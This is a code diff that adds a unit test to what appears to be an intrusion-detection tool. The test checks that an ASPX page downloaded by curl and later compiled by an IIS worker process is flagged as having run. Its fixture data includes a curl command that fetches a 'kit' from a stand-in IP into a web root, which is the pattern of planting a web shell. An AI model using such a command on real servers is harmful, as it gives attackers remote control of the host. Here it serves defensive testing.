@@ -152,3 +152,19 @@ def test_a_program_is_known_by_the_end_of_its_path(tmp_path: Path) -> None:
         tmp_path,
     )
     assert [one.stages["run"].state for one in found] == ["seen"]
+
+
+def test_a_page_that_a_web_server_compiles_much_later_has_run(tmp_path: Path) -> None:
+    worker: Fields = {"pid": 620, "process_path": "/usr/bin/w3wp.exe"}
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (0, {**_start(620, 1, "w3wp.exe", None), "argv": ("w3wp.exe", "-ap", "Default")}),
+            (1, {**FETCH, "argv": ("curl", "-o", "/srv/kit.aspx", "http://192.0.2.7/kit")}),
+            (2, {"kind": EventKind.FILE_CREATE, "pid": 611, "process_path": "/usr/bin/curl", "file_path": "/srv/kit.aspx"}),
+            (1_000, DULL_FILE),
+            (9_000, {**worker, "kind": EventKind.FILE_CREATE, "file_path": "/var/tmp/kit.aspx.1a2b.compiled"}),
+        ],
+        tmp_path,
+    )
+    assert [one.stages["run"].state for one in found] == ["seen"]
